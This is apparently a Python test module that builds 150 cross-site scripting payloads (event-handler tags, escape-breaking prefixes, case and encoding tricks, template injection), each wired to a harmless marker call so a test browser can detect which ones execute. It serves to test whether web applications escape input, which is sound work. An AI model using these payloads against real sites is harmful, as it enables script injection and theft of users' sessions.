"""A hundred and fifty payloads that run where somebody forgot to escape, each with a mark that tells whether it ran.

A payload that runs calls `window.ran(n)`; the browser of the test hears it, whatever way it ran.
"""

from __future__ import annotations

HOW_MANY = 150
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
TAGS = {
    "img": '<img src=x onerror="{js}">',
    "svg": '<svg onload="{js}">',
    "body": '<body onload="{js}">',
    "details": '<details open ontoggle="{js}">',
    "input": '<input autofocus onfocus="{js}">',
    "select": '<select autofocus onfocus="{js}">',
    "video": '<video><source onerror="{js}"></video>',
    "audio": '<audio src=x onerror="{js}">',
    "iframe": '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "frame": '<iframe src="javascript:{js}"></iframe>',
    "object": '<object data="javascript:{js}"></object>',
    "embed": '<embed src="javascript:{js}">',
    "meta": '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    "link": '<link rel=stylesheet href=x onerror="{js}">',
    "marquee": '<marquee onstart="{js}">x</marquee>',
    "math": '<math><mtext></form><form><mglyph><style></math><img src=x onerror="{js}">',
    "animate": '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    "set": '<svg><set onbegin="{js}" attributeName=x to=y>',
    "foreign": '<svg><foreignObject><body onload="{js}"></foreignObject></svg>',
    "use": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={js}>#x"/></svg>',
    "base": '<base href="javascript:{js}//">',
    "form": '<form action="javascript:{js}"><button autofocus>x</button></form>',
    "style": "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={js}>",
    "template": "<template><script>{js}</script></template><script>{js}</script>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror={js}>">',
}  # fmt: skip
BREAKS = (
    "{tag}", '">{tag}', "'>{tag}", "</textarea>{tag}", "</title>{tag}", "</script>{tag}", "</option></select>{tag}",
    "-->{tag}", "]]>{tag}", "`{tag}", "\n{tag}", "<!--{tag}", "</td></tr></table>{tag}",
)  # fmt: skip
BARE = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</script>",
    "'-{js}-'",
    '"-{js}-"',
    "`${{{js}}}`",
    "');{js};//",
    "\\');{js};//",
    "</script><script>{js}</script>",
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "data:text/html,<script>{js}</script>",
    "[x](javascript:{js})",
    "![x](x){{onerror={js}}}",
    "<a href=javascript:{js} autofocus>x</a>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{% raw %}}<script>{js}</script>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "%3Cscript%3E{js}%3C/script%3E",
    "\u003cscript\u003e{js}\u003c/script\u003e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    '" autofocus onfocus={js} x="',
    "' autofocus onfocus={js} x='",
    "\" style=animation-name:x onanimationstart={js} x=\"",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, in an order that does not change; the n-th calls `ran(n)`."""
    made = [*BARE, *TAGS.values()]
    made += [way.replace("{tag}", tag) for way in BREAKS[1:] for tag in TAGS.values()]
    return [text.format(js=f"ran({n})") for n, text in enumerate(made[:HOW_MANY])]
